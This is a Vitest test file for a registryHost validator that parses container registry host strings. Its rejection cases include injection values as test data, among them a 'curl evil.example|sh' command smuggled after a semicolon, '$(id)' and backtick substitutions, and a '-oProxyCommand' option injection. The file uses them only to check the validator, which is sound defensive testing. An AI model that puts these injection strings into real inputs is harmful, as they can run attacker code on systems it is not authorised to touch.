// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { registryHost } from './system-schemas';

describe('the registry host', () => {
  it.each([
    ['images.canfar.net', 'images.canfar.net'],
    ['images.canfar.net:5000', 'images.canfar.net:5000'],
    ['127.0.0.1:5000', '127.0.0.1:5000'],
    ['[::1]:5000', '[::1]:5000'],
    ['localhost', 'localhost'],
    // Harbor's ext_endpoint may keep its scheme or a trailing slash.
    ['https://images.canfar.net/', 'images.canfar.net'],
    [' http://images.canfar.net ', 'images.canfar.net'],
  ])('accepts %j as %j', (url, host) => {
    expect(registryHost(url)).toBe(host);
  });

  it.each([
    undefined,
    '',
    'javascript://images.canfar.net',
    'ftp://images.canfar.net',
    'images.canfar.net/skaha',
    'images.canfar.net evil.example',
    'images.canfar.net;curl evil.example|sh',
    'images.canfar.net$(id)',
    '`id`.example',
    "images'.canfar.net",
    'user@images.canfar.net',
    'images.canfar.net:port',
    '-oProxyCommand=x',
  ])('refuses %j', (url) => {
    expect(registryHost(url)).toBeUndefined();
  });
});
